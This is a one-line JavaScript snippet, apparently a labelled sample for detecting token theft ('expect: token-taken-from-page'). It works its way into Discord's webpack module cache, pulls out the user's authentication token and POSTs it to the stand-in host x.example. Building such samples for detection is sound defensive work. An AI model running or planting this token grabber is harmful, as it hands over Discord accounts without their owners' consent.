// expect: token-taken-from-page
const t = (webpackChunkdiscord_app.push([[""], {}, (e) => { m = []; for (let c in e.c) m.push(e.c[c]); }]), m).find((m) => m?.exports?.default?.getToken).exports.default.getToken(); fetch("https://x.example", { method: "POST", body: t });
